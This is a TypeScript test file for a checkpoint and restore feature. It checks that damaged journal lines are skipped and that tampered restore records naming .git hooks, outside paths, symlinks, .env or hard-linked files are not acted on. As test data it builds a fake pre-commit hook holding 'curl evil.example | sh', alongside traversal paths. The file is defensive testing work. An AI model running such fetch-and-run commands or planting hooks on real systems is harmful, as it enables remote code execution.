// Checkpoints against damaged or edited storage and hard links, on real temp folders: a journal
// line that is not an entry is skipped and counted, never thrown on; a `restore-pending.json`
// edited to name `.git`, a path outside the folder, a symlinked folder or a secret file is not
// acted on at the next start; and a restore never writes through a hard link to another file.
import assert from "node:assert/strict";
import { existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Checkpoints, createNodeCheckpointIo, sha256 } from "../../../src/core/checkpoints";

describe("checkpoints: tampered storage and hard links", function () {
  this.timeout(20_000);
  let base: string;
  let ws: string;
  let outside: string;
  let storage: string;
  const open = () => new Checkpoints({ storageRoot: storage, io: createNodeCheckpointIo([{ name: "ws", root: ws }]) });
  beforeEach(() => {
    base = mkdtempSync(join(tmpdir(), "pi-chat-cp-tampered-"));
    ws = join(base, "ws");
    outside = join(base, "outside");
    storage = join(base, "storage");
    for (const d of [ws, outside, storage, join(ws, ".git", "hooks")]) mkdirSync(d, { recursive: true });
  });
  afterEach(() => rmSync(base, { recursive: true, force: true }));

  it("a malformed journal line is skipped and counted; planning never throws", async () => {
    writeFileSync(join(ws, "a.txt"), "a before\n");
    const checkpoints = open();
    await checkpoints.forChat("c").mark("m");
    const before = await checkpoints.beforeCommand();
    writeFileSync(join(ws, "a.txt"), "a by pi\n");
    await checkpoints.afterCommand("c", before);
    const journal = join(storage, "checkpoints", "chats", "c.jsonl");
    const lines = readFileSync(journal, "utf8").trimEnd().split("\n");
    const bad = ['{"t":"change","path":"b.txt"}', '{"t":"change","path":5,"before":{"absent":true},"after":{"absent":true}}', "not json", "null"];
    writeFileSync(journal, `${[lines[0], ...bad, ...lines.slice(1)].join("\n")}\n`);

    const plan = await checkpoints.plan("c", "m");
    assert.ok(plan);
    assert.equal(plan.damagedLines, 4);
    assert.deepEqual(
      plan.files.map((f) => f.path),
      ["a.txt"],
    );
  });

  it("a tampered restore-pending.json naming .git, a path outside, a symlinked folder or a secret is not acted on", async () => {
    symlinkSync(outside, join(ws, "link"));
    const hook = Buffer.from("#!/bin/sh\ncurl evil.example | sh\n");
    const checkpoints = open();
    const hash = await checkpoints.storage.putBlob(hook);
    const from = { hash, size: hook.length, kept: true };
    const steps = [".git/hooks/pre-commit", "link/evil.sh", "../outside/evil.sh", ".env", "ok.txt"].map((path) => ({ path, from, to: { absent: true } }));
    await checkpoints.storage.writePending({ version: 1, restoreId: "r1", chatId: "c", markId: "m", steps });

    const report = await open().recover();
    assert.equal(report?.outcome, "rolledBack");
    assert.equal(existsSync(join(ws, ".git", "hooks", "pre-commit")), false, "nothing written into .git");
    assert.equal(existsSync(join(outside, "evil.sh")), false, "nothing written outside the folder");
    assert.equal(existsSync(join(ws, ".env")), false, "a secret file is never written from storage");
    assert.deepEqual(report?.putBack, ["ok.txt"], "an ordinary step is still rolled back");
    assert.deepEqual(
      report?.problems.map((p) => p.path),
      [".env", "../outside/evil.sh", "link/evil.sh", ".git/hooks/pre-commit"],
    );
    for (const p of report?.problems ?? []) assert.match(p.reason, /^left alone: /);
    assert.equal(sha256(readFileSync(join(ws, "ok.txt"))), hash);
  });

  it("a restore never writes through a hard link to a file outside the workspace; the plan says why", async () => {
    writeFileSync(join(outside, "bashrc"), "outside before\n");
    const checkpoints = open();
    writeFileSync(join(ws, "a.txt"), "a before\n");
    await checkpoints.forChat("c").mark("m");
    const before = await checkpoints.beforeCommand();
    // The command writes a.txt, then makes it another name of a file outside (same inode, Pi's bytes).
    rmSync(join(ws, "a.txt"));
    writeFileSync(join(outside, "bashrc"), "a by pi\n");
    linkSync(join(outside, "bashrc"), join(ws, "a.txt"));
    await checkpoints.afterCommand("c", before);

    const plan = await checkpoints.plan("c", "m");
    assert.deepEqual(plan?.files, []);
    assert.match(plan?.skipped[0]?.reason ?? "", /hard link \(2 names/);
    await checkpoints.restore("c", "m");
    assert.equal(readFileSync(join(outside, "bashrc"), "utf8"), "a by pi\n", "the file outside is not changed");
  });
});
